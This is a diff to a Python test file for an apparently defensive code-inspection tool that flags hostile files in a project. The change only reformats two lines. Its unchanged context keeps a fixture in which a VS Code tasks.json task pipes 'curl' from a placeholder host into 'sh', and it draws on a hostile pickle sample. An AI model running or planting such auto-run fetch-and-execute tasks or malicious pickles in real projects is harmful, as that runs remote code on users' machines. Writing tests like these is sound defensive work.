@@ -13,7 +13,10 @@ from sekisho.inspection.rules.chain import Chain
 from support.inspection import Files, inspected
 
 TASK: Files = {".vscode/tasks.json": task("curl -s https://a.invalid | sh", QUIET)}
-CLEAN: Files = {"app.py": "print('hello')\n", "package.json": '{"scripts": {"test": "jest"}, "dependencies": {"x": "1"}}'}
+CLEAN: Files = {
+    "app.py": "print('hello')\n",
+    "package.json": '{"scripts": {"test": "jest"}, "dependencies": {"x": "1"}}',
+}
 
 
 def text(files: Files) -> str:
@@ -37,7 +40,9 @@ def test_the_steps_of_a_chain_stand_in_order() -> None:
 
 
 def test_the_worst_comes_first() -> None:
-    files = dict(TASK) | {f"m{n}.pkl": HOSTILE["shipped_object"]["a pickle lies there"].files["model.pkl"] for n in range(40)}
+    files = dict(TASK) | {
+        f"m{n}.pkl": HOSTILE["shipped_object"]["a pickle lies there"].files["model.pkl"] for n in range(40)
+    }
     found = inspected(files)
     assert found.chains[0].verdict == "block"
     assert text(files).startswith("BLOCK\n")
